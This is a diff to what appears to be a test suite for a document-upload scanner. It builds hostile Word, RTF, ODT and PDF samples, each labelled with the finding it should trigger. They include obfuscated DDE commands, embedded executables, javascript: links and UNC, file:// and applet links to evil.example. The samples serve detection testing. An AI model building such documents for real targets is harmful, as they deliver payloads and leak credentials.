@@ -631,6 +631,293 @@ MORE_ATTACKS.update(
 ATTACKS.update(MORE_ATTACKS)
 
 
+# --------------------------------------------------------------------------- red team, round 2
+
+_OLE_BODY = (
+    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+    'r:id="rId9" ProgID="Package"/></w:object></w:r></w:p>'
+)
+PACKAGE_OBJECT_EXE = _package_object("invoice.exe", EXE)
+
+
+def _object_at(target: str, part: str, data: bytes, rel_type: str = "oleObject") -> bytes:
+    """An OLE object whose relationship points at a part outside word/embeddings/."""
+    return samples.word(
+        body=_OLE_BODY,
+        rels=f'<Relationship Id="rId9" Type="{REL}{rel_type}" Target="{target}"/>',
+        extra={part: data},
+    )
+
+
+def _activex_binary(data: bytes) -> bytes:
+    """An ActiveX control whose persisted binary (activeXControlBinary) is `data`."""
+    ax = "http://schemas.microsoft.com/office/2006"
+    return samples.word(
+        body='<w:p><w:r><w:object><w:control r:id="rId9" w:name="Flash1"/></w:object></w:r></w:p>',
+        rels=f'<Relationship Id="rId9" Type="{REL}control" Target="activeX/activeX1.xml"/>',
+        extra={
+            "word/activeX/activeX1.xml": f'<ax:ocx xmlns:ax="{ax}/activeX" '
+            f'xmlns:r="{REL[:-1]}" ax:classid="{{D27CDB6E-AE6D-11CF-96B8-444553540000}}" '
+            'ax:persistence="persistStorage" r:id="rId1"/>',
+            "word/activeX/_rels/activeX1.xml.rels": f'<Relationships xmlns="{samples.PKG_RELS}">'
+            f'<Relationship Id="rId1" Type="{ax}/relationships/activeXControlBinary" '
+            'Target="activeX1.bin"/></Relationships>',
+            "word/activeX/activeX1.bin": data,
+        },
+    )
+
+
+def _fc(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
+def _it(text: str) -> str:
+    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
+
+
+def _quote_codes_dde(cached: str | None) -> bytes:
+    """{ {QUOTE 68 68 69 65 85 84 79} cmd.exe }: the name is built from character codes,
+    and the cached result of the inner field lies (or is missing)."""
+    inner = _fc("begin") + _it("QUOTE 68 68 69 65 85 84 79")
+    if cached is not None:
+        inner += _fc("separate") + f"<w:r><w:t>{cached}</w:t></w:r>"
+    inner += _fc("end")
+    return samples.word(
+        "<w:p>" + _fc("begin") + _it(" ") + inner + _it(f" {DDE_CMD} ") + _fc("end") + "</w:p>"
+    )
+
+
+def _odt_embedded_object(xml: str) -> bytes:
+    """The odfpy CV with an embedded object ('Object 1/content.xml') holding `xml`."""
+    src = zipfile.ZipFile(io.BytesIO(samples.odfpy_odt()))
+    out = io.BytesIO()
+    sub = (
+        f'<?xml version="1.0"?><office:document-content {ODF_NS}><office:body><office:text>'
+        f"{xml}</office:text></office:body></office:document-content>"
+    )
+    frame = (
+        f'<text:p><draw:frame {ODF_NS}><draw:object xlink:href="./Object 1" xlink:show="embed" '
+        'xlink:actuate="onLoad"/></draw:frame></text:p>'
+    )
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for info in src.infolist():
+            body = src.read(info)
+            if info.filename == "content.xml":
+                body = body.replace(b"</office:text>", frame.encode() + b"</office:text>", 1)
+            z.writestr(info, body)
+        z.writestr("Object 1/content.xml", sub)
+    return out.getvalue()
+
+
+def _pdf_link(uri: pikepdf.String, base: str | None = None) -> bytes:
+    def change(pdf: pikepdf.Pdf) -> None:
+        if base is not None:
+            pdf.Root.URI = pikepdf.Dictionary(Base=pikepdf.String(base))
+        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=uri)
+        link = pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 600, 800], A=action
+        )
+        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))
+
+    return _with_pikepdf(change)
+
+
+def _utf16(text: str) -> pikepdf.String:
+    return pikepdf.String(b"\xfe\xff" + text.encode("utf-16-be"))
+
+
+_HTML_CHUNK = (
+    b'<html><body><img src="\\\\evil.example\\s\\x.png"><script>alert(1)</script></body></html>'
+)
+
+
+def _alt_chunk_part(name: str, content_type: str, data: bytes) -> bytes:
+    return samples.word(
+        body='<w:altChunk r:id="rId9"/><w:p><w:r><w:t>Jane</w:t></w:r></w:p>',
+        rels=f'<Relationship Id="rId9" Type="{REL}aFChunk" Target="{name}"/>',
+        overrides=f'<Override PartName="/word/{name}" ContentType="{content_type}"/>',
+        extra={f"word/{name}": data},
+    )
+
+
+_ODF_FRAME = f"<text:p {ODF_NS}><draw:frame>{{}}</draw:frame></text:p>"
+ROUND_TWO = {
+    # F1: objects are found by their relationships, wherever the part lives
+    "docx-ole-package-exe-in-media": (
+        _object_at("media/image9.bin", "word/media/image9.bin", PACKAGE_OBJECT_EXE),
+        "file_executable",
+    ),
+    "docx-ole-package-exe-in-customxml": (
+        _object_at("/customXml/item5.bin", "customXml/item5.bin", PACKAGE_OBJECT_EXE),
+        "file_executable",
+    ),
+    "docx-activex-binary-is-ole-package": (_activex_binary(PACKAGE_OBJECT_EXE), "file_executable"),
+    "docx-package-xlsm-in-media": (
+        _object_at("media/book.xlsm", "word/media/book.xlsm", samples.xlsx(macros=True), "package"),
+        "file_macros",
+    ),
+    "docx-ole-package-exe-no-relationship": (
+        samples.word(extra={"word/media/image3.png": PACKAGE_OBJECT_EXE}),
+        "file_executable",
+    ),
+    # F2: a nested field's cached result is not what Word computes
+    "docx-dde-nested-quote-char-codes-fake-result": (
+        _quote_codes_dde("xyz"),
+        "file_remote_content",
+    ),
+    "docx-dde-nested-quote-char-codes-no-result": (_quote_codes_dde(None), "file_remote_content"),
+    "rtf-dde-nested-quote-char-codes": (
+        _rtf(
+            "{\\field{\\*\\fldinst { }{\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79}"
+            f"{{\\fldrslt xyz}}}}{{ {DDE_CMD} }}}}{{\\fldrslt hi}}}}"
+        ),
+        "file_remote_content",
+    ),
+    # F3: fields that load external content
+    "docx-field-link-unc": (
+        samples.word(
+            _field('LINK Word.Document.12 "\\\\\\\\evil.example\\\\share\\\\x.docx" "" \\a \\f 0')
+        ),
+        "file_remote_content",
+    ),
+    "docx-field-database-unc": (
+        samples.word(
+            _field('DATABASE \\d "\\\\\\\\evil.example\\\\db\\\\x.mdb" \\s "SELECT 1" \\h')
+        ),
+        "file_remote_content",
+    ),
+    "rtf-field-link-unc": (
+        _rtf(
+            '{\\field{\\*\\fldinst LINK Word.Document.8 "\\\\\\\\evil.example\\\\s\\\\x.doc" "" \\\\a}{\\fldrslt x}}'
+        ),
+        "file_remote_content",
+    ),
+    # F4: RTF control words read as Word reads them
+    "rtf-ddeauto-in-upr-ud": (
+        _rtf(
+            "{\\field{\\*\\fldinst {\\upr{x}{\\*\\ud{DDEAUTO}}}" + f" {DDE_CMD}" + "}{\\fldrslt x}}"
+        ),
+        "file_remote_content",
+    ),
+    "rtf-fldinst-with-parameter": (
+        _rtf("{\\field{\\*\\fldinst1 DDEAUTO " + DDE_CMD + "}{\\fldrslt x}}"),
+        "file_remote_content",
+    ),
+    "rtf-datastore-ole-package": (
+        _rtf("{\\*\\datastore " + PACKAGE_EXE.hex() + "}"),
+        "file_embedded_files",
+    ),
+    # F5: every content.xml/styles.xml of an ODF package, and all loaded frames
+    "odt-unc-image-in-embedded-object": (
+        _odt_embedded_object(
+            '<draw:frame><draw:image xlink:href="\\\\evil.example\\s\\x.png"/></draw:frame>'
+        ),
+        "file_remote_content",
+    ),
+    "odt-floating-frame-file": (
+        _odt_content(
+            _ODF_FRAME.format(
+                '<draw:floating-frame xlink:href="file://evil.example/share/x.html"/>'
+            )
+        ),
+        "file_remote_content",
+    ),
+    "odt-applet-remote-archive": (
+        _odt_content(
+            _ODF_FRAME.format(
+                '<draw:applet xlink:href="http://evil.example/" draw:code="Evil.class" '
+                'draw:archive="http://evil.example/e.jar"/>'
+            )
+        ),
+        "file_active_content",
+    ),
+    # F6: PDF link targets as a reader resolves and decodes them
+    "pdf-uri-base-file-relative-link": (
+        _pdf_link(pikepdf.String("payload.exe"), base="file://evil.example/share/"),
+        "file_remote_content",
+    ),
+    "pdf-uri-utf16-file": (
+        _pdf_link(_utf16("file://evil.example/share/x.exe")),
+        "file_remote_content",
+    ),
+    "pdf-uri-utf16-javascript": (
+        _pdf_link(_utf16("javascript:app.alert(1)")),
+        "file_active_content",
+    ),
+    "pdf-uri-leading-nul-file": (
+        _pdf_link(pikepdf.String(b"\x00file://evil.example/x")),
+        "file_remote_content",
+    ),
+    # F7: an HTML or MHT altChunk is a web page inside the document
+    "docx-altchunk-html": (
+        _alt_chunk_part("afchunk.htm", "text/html", _HTML_CHUNK),
+        "file_active_content",
+    ),
+    "docx-altchunk-mht": (
+        _alt_chunk_part(
+            "afchunk.mht",
+            "message/rfc822",
+            b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _HTML_CHUNK,
+        ),
+        "file_active_content",
+    ),
+}
+ATTACKS.update(ROUND_TWO)
+
+
+def _polyglot_odt_docx() -> bytes:
+    """An ODT that is also a docx (mimetype and [Content_Types].xml): Word opens the docx."""
+    src = zipfile.ZipFile(io.BytesIO(samples.odfpy_odt()))
+    word = zipfile.ZipFile(io.BytesIO(samples.word(_field(f"DDEAUTO {DDE_CMD}"))))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        for info in src.infolist():
+            z.writestr(info, src.read(info))
+        for info in word.infolist():
+            if info.filename not in src.namelist():
+                z.writestr(info, word.read(info))
+    return out.getvalue()
+
+
+ROUND_TWO.update(
+    {
+        # found in the red team's folder of built files, beyond the report's list
+        "docx-field-ddeauto-after-switch": (
+            samples.word(_field(f"\\* MERGEFORMAT DDEAUTO {DDE_CMD}")),
+            "file_remote_content",
+        ),
+        "docx-field-ddeauto-zero-width-space": (
+            samples.word(_field(f"\u200bDDEAUTO {DDE_CMD}")),
+            "file_remote_content",
+        ),
+        "docx-template-http-without-target-mode": (
+            samples.word(settings_rels=_template_rel(mode="")),
+            "file_remote_content",
+        ),
+        "docx-dde-in-unreferenced-xml-part": (
+            samples.word(
+                extra={
+                    "customXml/item9.xml": (
+                        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+                        f"<w:body>{_field(f'DDEAUTO {DDE_CMD}')}</w:body></w:document>"
+                    )
+                }
+            ),
+            "file_remote_content",
+        ),
+        "odt-docx-polyglot-dde": (_polyglot_odt_docx(), "file_remote_content"),
+        "odt-link-to-basic-macro": (
+            _odt_content(
+                f'<text:p {ODF_NS}><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main'
+                '?language=Basic&amp;location=document">click</text:a></text:p>'
+            ),
+            "file_active_content",
+        ),
+    }
+)
+ATTACKS.update(ROUND_TWO)
+
+
 def _name(case: str) -> str:
     return NAMES[case.split("-", 1)[0]]
 
@@ -676,6 +963,49 @@ GOOD = {
         "CV",
     ),
 }
+
+
+def _word_datastore() -> bytes:
+    """What Word 2007+ writes at the end of every RTF: an MSXML reader's (empty) storage."""
+    storage = samples.ole2({}, root_clsid=bytes.fromhex("e0af8e81d2c4d211a0ca00c04f8edf00"))
+    return _rtf("{\\*\\datastore " + _ole1("Msxml2.SAXXMLReader.6.0", storage).hex() + "}Jane")
+
+
+GOOD.update(
+    {
+        "rtf-with-words-own-datastore": (_word_datastore, "cv.rtf", RTF, "CV"),
+        "docx-fields-with-switches-nesting-and-embed": (
+            lambda: samples.word(
+                _field("PAGE \\* MERGEFORMAT")
+                + _field('QUOTE "Jane Doe"')
+                + _field(" EMBED Excel.Sheet.12 ")
+                + "<w:p>"
+                + _fc("begin")
+                + _it(' IF 1 = 1 "')
+                + _fc("begin")
+                + _it(" DATE ")
+                + _fc("separate")
+                + "<w:r><w:t>today</w:t></w:r>"
+                + _fc("end")
+                + _it('" "x" ')
+                + _fc("end")
+                + "</w:p>"
+            ),
+            "cv.docx",
+            DOCX,
+            "CV",
+        ),
+        "rtf-nested-field-as-argument": (
+            lambda: _rtf(
+                '{\\field{\\*\\fldinst IF 1 = 1 "{\\field{\\*\\fldinst DATE}{\\fldrslt today}}" "x"}'
+                "{\\fldrslt today}}"
+            ),
+            "cv.rtf",
+            RTF,
+            "CV",
+        ),
+    }
+)
 
 
 # --------------------------------------------------------------------------- unit tests
